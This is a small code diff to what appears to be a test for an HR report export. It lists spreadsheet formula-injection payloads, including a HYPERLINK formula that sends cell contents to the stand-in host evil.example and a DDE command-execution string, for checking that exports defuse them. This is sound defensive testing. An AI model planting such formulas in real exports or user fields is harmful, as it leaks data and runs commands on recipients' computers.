@@ -15,7 +15,7 @@ org = reports_data.org
 
 # What an attacker puts in a field that ends up in an HR export (name, reason, workplace).
 HIDDEN_FORMULAS = [
-    " =HYPERLINK(\"http://evil.example/?\"&A1,\"Klikni\")",
+    ' =HYPERLINK("http://evil.example/?"&A1,"Klikni")',
     "\n=cmd|' /C calc'!A0",
     "\r\n+1+1",
     "\t-2+3",
